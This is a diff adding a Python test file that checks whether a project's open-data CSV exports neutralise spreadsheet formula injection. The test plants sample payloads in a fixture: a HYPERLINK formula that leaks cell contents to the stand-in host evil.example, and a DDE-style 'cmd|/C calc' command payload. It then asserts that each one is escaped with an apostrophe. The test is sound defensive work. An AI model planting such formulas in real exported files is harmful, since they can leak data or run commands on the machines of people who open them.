@@ -1,0 +1,47 @@
+"""The open-data files stay data: a spreadsheet opening them never runs a formula."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from pathlib import Path
+
+from privacy_terms.dataset import load_dataset
+from privacy_terms.opendata import comparison_csv, events_csv
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+def rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
+    valid_project: Path, today: dt.date
+) -> None:
+    alpha = valid_project / "platforms" / "alpha.yaml"
+    text = alpha.read_text(encoding="utf-8")
+    text = text.replace("\nname: Alpha Chat\n", f"\nname: {FORMULA!r}\n")
+    text = text.replace("summary: Alpha Chat announces a pause.", 'summary: "@SUM(1+1)*cmd|/C calc!A0"')
+    text = text.replace(
+        "speaker: An Alpha spokesperson\n        said: We are pausing",
+        "speaker: +An Alpha spokesperson\n        said: We are pausing",
+    )
+    text = text.replace(
+        "        detail: Name and sign-up date.", '        detail: "\\t-2+3 Name and sign-up date."'
+    )
+    alpha.write_text(text, encoding="utf-8")
+    dataset = load_dataset(valid_project, today).dataset
+    assert dataset is not None
+    comparison, events = rows(comparison_csv(dataset)), rows(events_csv(dataset))
+    assert comparison[1][1] == "'" + FORMULA
+    assert "'\t-2+3 Name and sign-up date." in comparison[1]
+    assert {row[2] for row in events[1:] if row[1] == "alpha"} == {"'" + FORMULA}
+    summaries = [row[5] for row in events]
+    assert "'@SUM(1+1)*cmd|/C calc!A0" in summaries
+    assert any(s.startswith("'+An Alpha spokesperson") for s in summaries), summaries
+    for table in (comparison, events):
+        for row in table:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
